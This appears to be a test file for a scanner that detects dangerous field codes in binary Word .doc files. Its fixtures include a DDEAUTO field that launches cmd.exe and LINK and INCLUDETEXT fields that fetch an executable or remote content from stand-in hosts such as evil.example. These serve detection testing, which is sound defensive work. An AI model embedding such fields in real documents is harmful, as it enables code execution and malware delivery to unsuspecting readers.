import { describe, expect, it } from 'vitest';
import { compoundFile, wordBinary } from '../testing/index.js';
import type { ArchiveEntry } from './archive-entry.js';
import { eachOlePackage } from './ole-packages.js';
import { wordBinaryFieldInstructions } from './word-binary-fields.js';

const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
const field = (code: string, result = 'x') => `\x13 ${code} \x14${result}\x15`;
const listed = (doc: Buffer) => {
  const entries: ArchiveEntry[] = [];
  eachOlePackage(doc, 1 << 24, (entry) => entries.push(entry));
  return entries;
};
// A FIB header and text, no piece table: what the fallback reads.
const bare = (text: Buffer) => {
  const fib = Buffer.alloc(0x600);
  fib.writeUInt16LE(0xa5ec, 0);
  fib.writeUInt16LE(0x00c1, 2);
  return compoundFile([
    ['WordDocument', Buffer.concat([fib, text])],
    ['1Table', Buffer.alloc(512)],
  ]);
};

describe('wordBinaryFieldInstructions: the fields of a binary .doc', () => {
  it('reads each field code through the piece table, UTF-16 and 8-bit', () => {
    for (const compressed of [false, true]) {
      const doc = wordBinary([{ text: `Page ${field('PAGE', '1')} of ${field(DDE)}\r` }], { compressed });
      expect(wordBinaryFieldInstructions(doc, 1 << 24)).toEqual([' PAGE ', ` ${DDE} `]);
    }
  });
  it('puts a nested field result in the code around it, and refuses a LINK built by one', () => {
    const doc = wordBinary([{ text: `\x13 HYPERLINK "${field('REF a', 'b')}" \x14x\x15\r` }]);
    expect(wordBinaryFieldInstructions(doc, 1 << 24)).toEqual([' REF a ', ' HYPERLINK "b" ']);
    const built = wordBinary([
      { text: `\x13 LINK Package "${field('QUOTE 92 92', 'report.docx')}" \x14x\x15\r` },
    ]);
    expect(() => wordBinaryFieldInstructions(built, 1 << 24)).toThrow(/LINK field whose code is built/);
  });
  it('reads a field left open at the end of the text', () => {
    expect(wordBinaryFieldInstructions(wordBinary([{ text: `a\x13${DDE}` }]), 1 << 24)).toEqual([DDE]);
  });
  it('scans the stream when the piece table cannot be followed, 8-bit and UTF-16', () => {
    expect(
      wordBinaryFieldInstructions(bare(Buffer.from(`Invoice\r${field(DDE)}\r`, 'latin1')), 1 << 24),
    ).toEqual([` ${DDE} `]);
    const wide = Buffer.concat([
      Buffer.from([0]),
      Buffer.from(`${field('INCLUDETEXT "http://e.example/d"')}`, 'utf16le'),
    ]);
    expect(wordBinaryFieldInstructions(bare(wide), 1 << 24)).toEqual([' INCLUDETEXT "http://e.example/d" ']);
    // Other fields (and random bytes after a 0x13) are not taken for a field's code.
    expect(
      wordBinaryFieldInstructions(bare(Buffer.from(`${field('PAGE')}\x13\x01DDE`, 'latin1')), 1 << 24),
    ).toEqual([]);
    expect(() =>
      wordBinaryFieldInstructions(
        bare(Buffer.from(`\x13 LINK Package "\x13 QUOTE 92 \x14`, 'latin1')),
        1 << 24,
      ),
    ).toThrow(/nested/);
  });
  it('reads nothing of an encrypted document, or a file without a Word document', () => {
    expect(
      wordBinaryFieldInstructions(wordBinary([{ text: field(DDE) }], { flags: 0x0100 }), 1 << 24),
    ).toEqual([]);
    expect(
      wordBinaryFieldInstructions(compoundFile([['Workbook', Buffer.from(field(DDE), 'latin1')]]), 1 << 24),
    ).toEqual([]);
  });
  it('reads a stream named in other case (MS-CFB compares names upper-cased)', () => {
    expect(wordBinaryFieldInstructions(bare(Buffer.from(field(DDE), 'latin1')), 1 << 24)).toHaveLength(1);
    const fib = Buffer.alloc(0x600);
    fib.writeUInt16LE(0xa5ec, 0);
    const doc = compoundFile([['WORDDOCUMENT', Buffer.concat([fib, Buffer.from(field(DDE), 'latin1')])]]);
    expect(wordBinaryFieldInstructions(doc, 1 << 24)).toHaveLength(1);
  });
});

describe('eachOlePackage: the files a binary .doc opens by its fields', () => {
  it('throws for a DDEAUTO field', () => {
    expect(() => listed(wordBinary([{ text: `Invoice\r${field(DDE)}\r` }]))).toThrow(
      'a DDEAUTO field, which runs a program',
    );
  });
  it('lists a LINK to an executable on a share, a picture by its name, an INCLUDETEXT from a server as remote', () => {
    const doc = wordBinary([
      {
        text: `${field('LINK Package "\\\\\\\\evil.example\\\\s\\\\invoice.exe" "" \\a')}${field('INCLUDEPICTURE "http://cdn.example/logo.png"')}${field('INCLUDETEXT "http://evil.example/doc"')}\r`,
      },
    ]);
    expect(listed(doc)).toEqual([
      { name: 'invoice.exe', host: 'evil.example' },
      { name: 'logo.png' },
      { name: 'doc', remote: 'http://evil.example/doc' },
    ]);
  });
  it('(control) lists nothing for PAGE, HYPERLINK and TOC fields', () => {
    const text = `${field('TOC \\o "1-3" \\h \\z \\u', 'Contents')}\r${field('HYPERLINK "https://vendor.example/setup.exe"', 'site')} ${field('PAGE \\* MERGEFORMAT', '1')}\r`;
    expect(listed(wordBinary([{ text }]))).toEqual([]);
    expect(listed(wordBinary([{ text }], { compressed: true, table: '1Table' }))).toEqual([]);
  });
});
